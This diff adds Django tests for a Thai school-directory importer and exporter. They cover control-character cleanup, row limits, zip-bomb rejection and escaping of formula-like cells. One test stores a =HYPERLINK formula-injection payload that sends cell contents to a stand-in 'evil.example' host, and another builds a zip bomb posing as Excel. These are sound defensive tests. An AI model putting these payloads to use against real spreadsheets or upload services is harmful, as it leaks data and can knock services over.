@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import csv
 import io
 
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -138,3 +139,63 @@ def test_only_editors_may_import(users, client_for):
     for role in ("clerk", "member", "executive", "school"):
         assert client_for(users[role]).get(reverse("schools:school_import")).status_code == 403
         assert client_for(users[role]).get(reverse("schools:cluster_import")).status_code == 403
+
+
+def test_pasted_control_characters_are_cleaned_on_import(users, client_for):
+    name = "โรงเรียนวัดพระศรีรัตนศาสดาราม\x0b(ราษฎร์บำรุง)\u200b\x07"
+    upload = _csv(_row(**{"ชื่อสถานศึกษา": name, "ผู้บริหารสถานศึกษา": "นางสาวพิมพ์ชนก\tศรีสุวรรณวงศ์\u202e"}))
+    response = client_for(users["supervisor"]).post(
+        reverse("schools:school_import"), {"file": upload, "create_missing_clusters": "on"}, follow=True
+    )
+    assert "เพิ่มใหม่ 1 รายการ" in response.content.decode()
+    school = School.objects.get(code="1099000100")
+    assert school.name == "โรงเรียนวัดพระศรีรัตนศาสดาราม (ราษฎร์บำรุง)"
+    assert school.principal_name == "นางสาวพิมพ์ชนก ศรีสุวรรณวงศ์"
+
+
+def test_a_file_over_the_row_limit_is_refused_in_thai_and_nothing_is_saved(users, client_for):
+    rows = [_row(**{"รหัสสถานศึกษา": f"{1099100000 + n:010d}", "กลุ่มโรงเรียน": ""}) for n in range(20001)]
+    response = client_for(users["supervisor"]).post(reverse("schools:school_import"), {"file": _csv(*rows)})
+    assert "นำเข้าได้ครั้งละไม่เกิน 20,000 แถว" in response.content.decode()
+    assert not School.objects.filter(code__startswith="10991").exists()
+
+
+def test_a_zip_bomb_posing_as_excel_is_refused_in_thai(users, client_for):
+    import zipfile
+
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
+            for _ in range(500):
+                sheet.write(b"<row><c><v>1</v></c></row>" * 10_000)
+    upload = SimpleUploadedFile("schools.xlsx", out.getvalue())
+    response = client_for(users["supervisor"]).post(reverse("schools:school_import"), {"file": upload})
+    assert response.status_code == 200
+    assert "เกิน 50 MB ที่นำเข้าได้" in response.content.decode()
+
+
+def test_exports_write_formula_like_text_as_text_and_a_phone_number_round_trips(users, client_for, school):
+    School.objects.filter(pk=school.pk).update(
+        name='=HYPERLINK("http://evil.example/?d="&A1,"โรงเรียนบ้านทดสอบ")',
+        phone="+66 44 123 456",
+        principal_name="@นายสมชาย",
+    )
+    client = client_for(users["supervisor"])
+    xlsx = client.get(reverse("schools:school_export", args=["xlsx"])).content
+    cells = [c for row in load_workbook(io.BytesIO(xlsx)).active.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert '=HYPERLINK("http://evil.example/?d="&A1,"โรงเรียนบ้านทดสอบ")' in [c.value for c in cells]
+
+    text = client.get(reverse("schools:school_export", args=["csv"])).content.decode("utf-8-sig")
+    row = next(r for r in csv.reader(io.StringIO(text)) if r[0] == school.code)
+    named = dict(zip(HEADERS, row, strict=True))
+    assert named["ชื่อสถานศึกษา"].startswith("'=HYPERLINK(")
+    assert (named["โทรศัพท์"], named["ผู้บริหารสถานศึกษา"]) == ("'+66 44 123 456", "'@นายสมชาย")
+
+    School.objects.filter(pk=school.pk).update(phone="", principal_name="")
+    client.post(reverse("schools:school_import"), {"file": SimpleUploadedFile("back.csv", text.encode("utf-8-sig"))})
+    school.refresh_from_db()
+    assert (school.phone, school.principal_name) == (
+        "+66 44 123 456",
+        "@นายสมชาย",
+    )  # the apostrophe is the file's, not the data's
